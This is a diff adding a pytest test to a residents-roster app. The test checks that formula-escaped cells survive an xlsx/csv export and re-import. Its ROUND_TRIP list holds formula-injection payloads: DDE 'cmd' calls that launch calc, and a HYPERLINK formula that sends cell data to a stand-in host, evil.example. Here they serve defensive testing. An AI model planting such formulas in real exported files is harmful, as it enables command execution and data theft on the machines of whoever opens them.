@@ -123,3 +123,28 @@ def test_errors_workbook_has_no_live_formula(roster, data_dir, tmp_path):
                                                     for t in HOSTILE)
     assert {r[2] for r in rows[1:]} == {"'+86 138 0013 8000"}  # documented: escaped as well
     assert {r[4] for r in rows[1:]} == {"a_x0001_b"}  # a control character no longer crashes
+
+
+# What the import keeps as it is (no "*", which reads as a masked export; no whitespace first,
+# which the import trims): only the escaping is being tested.
+ROUND_TRIP = ["=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+              "@SUM(1+1)", '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "-已搬走",
+              "''=1"]
+
+
+@pytest.mark.xfail(strict=True, reason="the import keeps the apostrophe: it should take it off "
+                   "with cells.unescape_cell (desktop/roster/importing, the lead's call)")
+@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
+def test_escaped_cells_import_back_unchanged(roster, tmp_path, fmt):
+    from desktop.roster.importing.pipeline import dry_run, prepare_import
+
+    with roster.unit_of_work("test") as uow:
+        for person, text in zip(living(roster), ROUND_TRIP):
+            row = uow.session.get(Resident, person.id)
+            row.name, row.work_unit, row.notes = text, text, text
+    target = tmp_path / f"x.{fmt}"
+    summary = export_residents(roster, target, ExportOptions(
+        format=fmt, mask=False, columns=("name", "id_number", "work_unit", "notes", "compound",
+                                         "building", "unit", "room")))
+    plan = dry_run(roster, prepare_import(target).read, "update")
+    assert (plan.count("unchanged"), plan.count("update")) == (summary.rows, 0)
